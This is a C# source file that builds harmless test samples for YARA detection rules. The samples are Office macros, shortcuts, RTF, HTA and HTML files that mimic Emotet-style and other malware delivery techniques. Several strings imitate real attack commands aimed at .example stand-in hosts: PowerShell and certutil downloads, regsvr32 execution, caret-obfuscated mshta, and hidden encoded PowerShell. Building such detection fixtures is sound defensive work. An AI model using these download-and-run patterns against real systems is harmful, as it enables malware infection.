using System.Buffers.Binary;
using System.Text;

namespace Sekisho.SampleMaker;

/// <summary>For each rule of signatures/yara/ one harmless file that is built as what it is meant for; every address is under .example.</summary>
public static class YaraSamples
{
    private const string Long = "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ejAxMjM0NTY3ODkrL0FCQ0RFRkdISUpLTE1OT1A";

    private const string List = "https://one.example/wp-admin/aB3/,https://two.example/blog/wp-content/Xy9/zz/,http://three.example/cgi-bin/q1/,";

    private const string Loop = "$links=(\"https://one.example/a/\",\"https://two.example/b/\");foreach ($u in $links) {try {IWR $u -OutFile $env:TEMP/aBcDeFgHiJ.qWe;Regsvr32.exe $env:TEMP/aBcDeFgHiJ.qWe;break} catch { }}";

    /// <summary>By the rule's name: a file name and its content.</summary>
    public static IReadOnlyDictionary<string, (string Name, byte[] Octets)> All { get; } = new Dictionary<string, (string, byte[])>
    {
        ["eicar_test_file"] = ("eicar.com", Samples.Eicar()),
        ["onenote_embedded_script"] = ("notes.one", CarrierWriter.OneNote("click.wsf", "nothing in it"u8.ToArray())),
        ["onenote_embedded_program"] = ("notes.one", CarrierWriter.OneNote("picture.dat", Samples.Program())),
        ["onenote_script_content"] = ("notes.one", CarrierWriter.OneNote("picture.dat", "<job id=\"x\"><script language=\"VBScript\">' nothing</script></job>"u8.ToArray())),
        ["lnk_findstr_own_file"] = ("Form - Jun 06, 2022.lnk", CarrierWriter.Shortcut("cmd.exe", "/v:on /c findstr \"marker.*\" form.lnk > \"%tmp%\\aBc.vbs\" & \"%tmp%\\aBc.vbs\"")),
        ["lnk_base64_script"] = ("form.lnk", CarrierWriter.Shortcut("powershell.exe", $"powershell.exe -command [System.Text.Encoding]::ASCII.GetString([System.Convert]::FromBase64String('{Long}')) > \"%TEMP%\\a.ps1\"")),
        ["lnk_progress_preference"] = ("form.lnk", CarrierWriter.Shortcut("powershell.exe", "-command X('" + Convert.ToBase64String(Encoding.ASCII.GetBytes("$ProgressPreference=\"SilentlyContinue\";")) + "')")),
        ["lnk_appended_script"] = ("form.lnk", CarrierWriter.Shortcut("cmd.exe", "/c x", "Set s = CreateObject(\"WScript.Shell\")\r\ns.Popup \"harmless\"\r\n"u8.ToArray())),
        ["rtf_equation_autoload"] = ("invoice.doc", Ascii(@"{\rtf1{\object\objemb\objupdate{\*\objclass Equation.3}{\*\objdata " + CarrierWriter.RtfObject("Equation.3", new byte[40]) + "}}}")),
        ["rtf_package_of_script"] = ("invoice.rtf", Ascii(@"{\rtf1{\object\objemb{\*\objdata " + CarrierWriter.RtfObject("Package", CarrierWriter.Package("a.js", "c:\\a.js", "// nothing"u8.ToArray())[4..]) + "}}}")),
        ["rtf_remote_template"] = ("invoice.rtf", Ascii(@"{\rtf1{\*\template https://one.example/t.dotm}text}")),
        ["xlm_hidden_auto_open"] = ("report.xls", XlmSamples.Hello(state: 2)),
        ["xlm_urlmon_download"] = ("report.xls", XlmSamples.Emotet()),
        ["xlm_relative_library"] = ("report.xlsm", XlmSamples.Package(["EXEC(\"C:\\Windows\\System32\\regsvr32.exe -s ..\\oxnv1.ooccxx\")", "HALT()"])),
        ["xlm_formula_assembly"] = ("report.xls", XlmSamples.Emotet()),
        ["xlm_automatic_program"] = ("report.xlsb", XlmSamples.BinaryPackage()),
        ["caret_command"] = ("report.xlsm", XlmSamples.Package(["EXEC(\"cmd /c m^sh^t^a h^tt^p^:/^/one.example/pp.html\")", "HALT()"])),
        ["lure_red_dawn"] = ("mes.doc", Document("This document is protected\rPreviewing is not available for protected documents.\rYou have to press \"ENABLE EDITING\" and \"ENABLE CONTENT\" buttons to preview this document.")),
        ["lure_copy_to_templates"] = ("report.xls", Sheet("RELAUNCH REQUIRED In accordance with the requirements of your security policy, copy the file to the following folder and run it again:", @"C:\Program Files\Microsoft Office\root\Templates")),
        ["lure_enable_content_ja"] = ("通知.doc", Document("「編集を有効にする」を押し、次に「コンテンツの有効化」を押してください。")),
        ["vba_urlmon_download"] = ("a.doc", Macro("Declare PtrSafe Function F Lib \"urlmon\" Alias \"URLDownloadToFileA\" (ByVal a As Long, ByVal u As String) As Long", "Sub AutoOpen()", "F 0, \"https://one.example/x\"", "Shell \"x\"", "End Sub")),
        ["vba_emotet_wmi"] = ("a.doc", Macro("Sub Document_Open()", "Set p = GetObject(Xy1(Form1.Zq.Tag))", "p.ShowWindow = 0", "GetObject(w).Create c, Null, p, i", "End Sub")),
        ["vba_emotet_revisions"] = ("a.doc", Macro("Sub autoopen()", "While i <= ActiveDocument.Revisions.Count", "Debug.Print i", "Wend", "End Sub")),
        ["vba_split_join"] = ("a.doc", Macro("Sub Document_open()", "x = Join(Split(Form1.Zq.Text, \"][(s)]\"), \"\")", "Set y = CreateObject(x)", "End Sub")),
        ["vba_select_junk"] = ("a.doc", Macro(["Sub autoopen()", .. Enumerable.Range(0, 6).SelectMany(i => (string[])["Select Case xQ" + i, $"   Case {7211 + (i * 931)}", $"      wZ{i} = Sin({i}83) + CDbl(aB{i})", "End Select"]), "Shell! xQ1 + xQ2, 0", "End Sub"])),
        ["vba_key_constants"] = ("a.doc", Macro("Sub Document_open()", "x = ChrW(wdKeyP) & \"rocess\"", "End Sub")),
        ["vba_certutil"] = ("a.doc", Macro("Sub AutoOpen()", "Shell \"certutil -urlcache -f https://one.example/a a.txt\"", "End Sub")),
        ["vba_memory_code"] = ("a.doc", Macro("Private Declare PtrSafe Function VirtualAlloc Lib \"kernel32\" () As LongPtr", "Private Declare PtrSafe Sub RtlMoveMemory Lib \"kernel32\" ()", "Private Declare PtrSafe Function CreateThread Lib \"kernel32\" () As LongPtr")),
        ["powershell_emotet_base64"] = ("a.doc", Macro("Sub AutoOpen()", "x = \"" + Convert.ToBase64String(Encoding.Unicode.GetBytes("$env:userprofile\\1.exe")) + "\"", "End Sub")),
        ["powershell_url_list"] = ("a.ps1", Ascii("$ProgressPreference=\"SilentlyContinue\";\r\n" + Loop)),
        ["powershell_encoded_command"] = ("a.bat", Ascii($"@echo off\r\npowershell.exe -w hidden -enc {Long}\r\n")),
        ["regsvr32_clock_name"] = ("a.doc", Macro("Sub AutoOpen()", "x = \"regsvr32.exe /s \"\"%TEMP%\\135704.tmp\"\"\"", "End Sub")),
        ["emotet_address_list"] = ("a.doc", Macro("Sub AutoOpen()", $"u = Split(\"{List}\", \",\")", "End Sub")),
        ["script_download_run"] = ("click.wsf", Ascii("<job id=\"x\"><script language=\"VBScript\">\r\nSet h = CreateObject(\"MSXML2.ServerXMLHTTP\")\r\nSet s = CreateObject(\"ADODB.Stream\")\r\nSet w = CreateObject(\"WScript.Shell\")\r\n' opens https://one.example/x and no more\r\n</script></job>")),
        ["hta_runs_program"] = ("a.hta", Ascii("<html><head><hta:application id=\"x\"/></head><body><script>var s = new ActiveXObject('WScript.Shell');</script></body></html>")),
        ["html_smuggled_file"] = ("paper.html", Ascii($"<html><body><script>var d = \"UEsDBBQAAAAIA{Long}\";var b = atob(d);var u = URL.createObjectURL(new Blob([b]));</script></body></html>")),
        ["app_installer_link"] = ("paper.html", Ascii("<html><body><a href=\"ms-appinstaller:?source=https://one.example/a.appinstaller\">Preview PDF</a></body></html>")),
        ["iso_with_shortcut"] = ("papers.iso", DiskImageWriter.Iso("papers.lnk", CarrierWriter.Shortcut("cmd.exe", "/c x"))),
        ["padded_office_document"] = ("INVOICE 589 03_23.doc", [.. Samples.OldDocument(), .. new byte[9 << 20]]),
        ["xll_auto_open"] = ("report.xll", Library("xlAutoOpen")),
        ["library_for_regsvr32"] = ("report.dll", Library("DllRegisterServer")),
    };

    private static byte[] Ascii(string text) => Encoding.ASCII.GetBytes(text);

    private static byte[] Document(string text) => new CompoundFileWriter().Add("WordDocument", [.. new byte[1536], .. Encoding.Unicode.GetBytes(text), .. new byte[3000]]).Add("1Table", new byte[100]).ToArray();

    private static byte[] Sheet(params string[] texts)
    {
        var book = new XlmWorkbookWriter();
        var sheet = book.AddSheet("Sheet1", isMacro: false);
        for (var i = 0; i < texts.Length; i++)
        {
            book.Text(sheet, i, 0, texts[i]);
        }

        return book.ToArray();
    }

    private static byte[] Macro(params string[] lines) => Samples.OldDocument("Attribute VB_Name = \"ThisDocument\"\r\n" + string.Join("\r\n", lines) + "\r\n");

    /// <summary>A Windows library of one section that exports one name (Microsoft's PE format, sections 3 and 6.3); it has no code.</summary>
    public static byte[] Library(string export)
    {
        var file = new byte[0x400];
        void At(int offset, uint value) => BinaryPrimitives.WriteUInt32LittleEndian(file.AsSpan(offset), value);
        void Two(int offset, ushort value) => BinaryPrimitives.WriteUInt16LittleEndian(file.AsSpan(offset), value);
        "MZ"u8.CopyTo(file);
        At(0x3C, 0x80);
        "PE\0\0"u8.CopyTo(file.AsSpan(0x80));
        Two(0x84, 0x14C); // i386
        Two(0x86, 1); // sections
        Two(0x94, 0xE0); // length of the optional header
        Two(0x96, 0x2102); // a library, 32 bits, can be run
        Two(0x98, 0x10B); // PE32
        At(0x98 + 32, 0x1000);
        At(0x98 + 36, 0x200);
        At(0x98 + 56, 0x2000);
        At(0x98 + 60, 0x200);
        At(0x98 + 92, 16); // directories
        At(0x98 + 96, 0x1000); // exports
        At(0x98 + 100, 0x100);
        var section = 0x98 + 0xE0;
        ".rdata"u8.CopyTo(file.AsSpan(section));
        At(section + 8, 0x200);
        At(section + 12, 0x1000);
        At(section + 16, 0x200);
        At(section + 20, 0x200);
        At(section + 36, 0x40000040);
        At(0x200 + 12, 0x1070); // the library's name
        At(0x200 + 16, 1);
        At(0x200 + 20, 1); // functions
        At(0x200 + 24, 1); // names
        At(0x200 + 28, 0x1030);
        At(0x200 + 32, 0x1040);
        At(0x200 + 36, 0x1048);
        At(0x230, 0x1100);
        At(0x240, 0x1050);
        Encoding.ASCII.GetBytes(export).CopyTo(file.AsSpan(0x250));
        "a.dll"u8.CopyTo(file.AsSpan(0x270));
        return file;
    }
}
